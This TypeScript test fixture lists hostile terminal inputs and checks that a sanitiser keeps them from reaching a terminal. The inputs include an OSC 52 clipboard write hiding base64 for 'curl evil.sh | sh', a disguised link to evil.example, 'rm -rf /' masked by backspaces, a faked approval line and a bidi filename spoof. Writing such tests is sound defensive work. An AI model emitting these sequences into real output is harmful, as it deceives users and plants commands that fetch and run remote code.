/**
 * Hostile text, and the check that none of it reached a terminal: shared by the tests of terminalSafe
 * and of every path that draws participant text (the plain mode, history, tasks, report, escalations,
 * status, who, the ink components, the --exec notes).
 */
import { expect } from 'vitest';

export interface HostileText {
  name: string;
  text: string;
  /** what a reader sees instead */
  shows: string;
}

export const HOSTILE_TEXTS: HostileText[] = [
  { name: 'ESC[2J clears the screen', text: 'a\u001b[2J\u001b[Hb', shows: 'a␛[2J␛[Hb' },
  { name: 'OSC 0 sets the window title', text: 'x\u001b]0;you have been pwned\u0007y', shows: 'x␛]0;you have been pwned␇y' },
  { name: 'OSC 52 writes the clipboard', text: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u001b\\paste me', shows: '␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␛\\paste me' },
  { name: 'OSC 8 hides a link', text: '\u001b]8;;https://evil.example\u0007docs\u001b]8;;\u0007', shows: '␛]8;;https://evil.example␇docs␛]8;;␇' },
  { name: 'DCS asks the terminal to answer', text: '\u001bP+q544e\u001b\\', shows: '␛P+q544e␛\\' },
  { name: '\\r fakes a line', text: 'all tests pass\rTech Lead: ship it', shows: 'all tests pass␍Tech Lead: ship it' },
  { name: '8-bit C1 CSI \\x9b', text: 'p\u009b2Jq\u009d0;title\u009c', shows: 'p<U+009B>2Jq<U+009D>0;title<U+009C>' },
  { name: 'BEL rings', text: 'ding\u0007\u0007', shows: 'ding␇␇' },
  { name: 'backspaces rub text out', text: 'rm -rf /\b\b\b\b\b\b\b\bls', shows: 'rm -rf /␈␈␈␈␈␈␈␈ls' },
  { name: 'DEL', text: 'ab\u007fc', shows: 'ab␡c' },
  { name: 'NUL, vertical tab, form feed', text: 'n\u0000v\u000bf\u000cx', shows: 'n␀v␋f␌x' },
  { name: 'bidi override reorders a line', text: 'invoice\u202Egpj.exe', shows: 'invoice<U+202E>gpj.exe' },
  { name: 'bidi isolate', text: 'a\u2067b\u2069c', shows: 'a<U+2067>b<U+2069>c' },
  { name: 'zero-width space and BOM', text: 'Tech\u200BLe\uFEFFad', shows: 'Tech<U+200B>Le<U+FEFF>ad' },
  { name: 'line separator', text: 'one\u2028two', shows: 'one<U+2028>two' },
  { name: 'lone surrogate', text: 'broken\uD800half', shows: 'broken<U+D800>half' },
];

/** All of them again and again, near the hub's 32,000-character bound for a message. */
const times = Math.floor(30_000 / HOSTILE_TEXTS.reduce((n, h) => n + h.text.length + 1, 0));
export const HUGE_HOSTILE_TEXT: HostileText = {
  name: 'a huge string of all of them',
  text: Array(times).fill(HOSTILE_TEXTS.map((h) => h.text).join(' ')).join(' '),
  shows: Array(times).fill(HOSTILE_TEXTS.map((h) => h.shows).join(' ')).join(' '),
};

/** What no terminal may receive, apart from newline and tab (an independent oracle: not terminalSafe's own pattern). */
const REACHES_TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\ufeff\ufffd]|\p{Cs}/u;

/**
 * Fails when `output` holds a control character, a bidi or zero-width character, or U+FFFD (a lone
 * surrogate written to a pipe). With `sgr`, SGR styling (`ESC[…m`, which ink draws itself) is allowed.
 */
export function expectTerminalSafe(output: string, { sgr = false } = {}): void {
    const text = sgr ? output.replace(/\u001b\[[0-9;]*m/g, '') : output;
  const found = REACHES_TERMINAL.exec(text);
  expect(found && { char: `U+${found[0].codePointAt(0)!.toString(16).padStart(4, '0')}`, near: JSON.stringify(text.slice(Math.max(0, found.index - 30), found.index + 30)) }).toBeNull();
}
